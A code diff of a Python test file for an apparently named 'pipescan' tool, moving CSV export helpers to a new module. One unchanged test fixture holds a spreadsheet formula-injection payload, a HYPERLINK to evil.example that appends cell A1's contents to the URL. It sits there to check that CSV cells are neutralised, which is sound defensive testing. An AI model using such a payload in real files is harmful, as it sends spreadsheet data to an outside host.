@@ -18,7 +18,8 @@ import sqlalchemy as sa
 from pipescan.core.errors import ArchiveError, PipescanError
 from pipescan.core.model import InspectionMeta, SectionMeasures, SectionStatus
 from pipescan.core.sanitize import escape_control, strip_credentials
-from pipescan.storage.database import export, repository
+from pipescan.exports import tables
+from pipescan.storage.database import repository
 from pipescan.storage.database.db import connect
 from pipescan.storage.input.archive import open_archive
 from pipescan.tasks.delivery import DeliveryError, SmtpConfig, send_report_email
@@ -146,7 +147,7 @@ def test_csv_text_cells_cannot_be_formulas(sqlite_engine) -> None:
     asset = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     _save(sqlite_engine, asset, "/scans/a.zip")
     out = io.StringIO()
-    export.export_sections_csv(sqlite_engine, out)
+    tables.export_sections_csv(sqlite_engine, out)
     import csv
 
     header, row = list(csv.reader(io.StringIO(out.getvalue())))
@@ -163,7 +164,7 @@ def test_csv_text_cells_cannot_be_formulas(sqlite_engine) -> None:
      ("\t=1", "'\t=1"), ("MH1-MH2", "MH1-MH2"), ("", "")],
 )  # fmt: skip
 def test_text_cell(text: str, cell: str) -> None:
-    assert export.text_cell(text) == cell
+    assert tables.text_cell(text) == cell
 
 
 # --- SMTP ---------------------------------------------------------------------------------------
